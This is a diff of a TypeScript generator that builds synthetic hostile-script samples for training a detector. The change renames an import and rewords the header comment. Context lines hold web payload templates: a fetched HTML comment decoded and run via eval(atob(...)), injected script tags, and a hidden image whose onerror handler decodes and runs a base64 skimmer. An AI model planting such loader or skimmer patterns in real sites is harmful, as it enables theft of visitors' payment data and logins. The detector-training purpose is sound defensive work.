@@ -1,8 +1,8 @@
-// Practices of hostile scripts as reports of the last years describe them, each in more than one way of writing it. Texts for a detector to
-// be trained on: they are never run, the hosts do not exist, and filler stands where harm would.
+// Practices of hostile scripts from reports of recent years, each written in several ways. Training data for a detector:
+// never run, the hosts do not exist, and filler replaces anything harmful.
 import { hide } from './hostile-behaviours.ts'
 import { base64, hidden, hostile, percent } from './hostile-templates.ts'
-import { harvest, leave, skimmer } from './skimmer-templates.ts'
+import { skim, leave, skimmer } from './skimmer-templates.ts'
 import type { Family, Variation } from './variation.ts'
 
 const HEX = [...'0123456789abcdef']
@@ -77,7 +77,7 @@ export const HOSTILE_PRACTICES: readonly Family[] = [
       `fetch('/${v.key(8).toLowerCase()}').then(function(r){return r.text()}).then(function(t){var m=t.match(/<!--\\s*${v.key(6)}(.*?)-->/);if(m)${v.pick(['eval(atob(m[1]))', 'Function(atob(m[1].trim()))()', "{var s=document.createElement('script');s.textContent=decodeURIComponent(escape(atob(m[1])));document.head.append(s)}"])}});`,
   ),
   skimmer('handler of a picture that decodes itself', (v) => {
-    const code = `if(location.href.indexOf('${words(v)}')>0){${harvest(v, v.id(1))}${leave(v, v.id(1))}}`
+    const code = `if(location.href.indexOf('${words(v)}')>0){${skim(v, v.id(1))}${leave(v, v.id(1))}}`
     const quoted = base64(code)
     return v.pick([
       `<img src="x" ${v.pick(['alt', 'title', 'id'])}="${quoted}" onerror="${v.pick(['eval(atob(this.alt||this.title||this.id))', 'Function(atob(this.alt||this.title||this.id))()'])}" style="display:none">`,
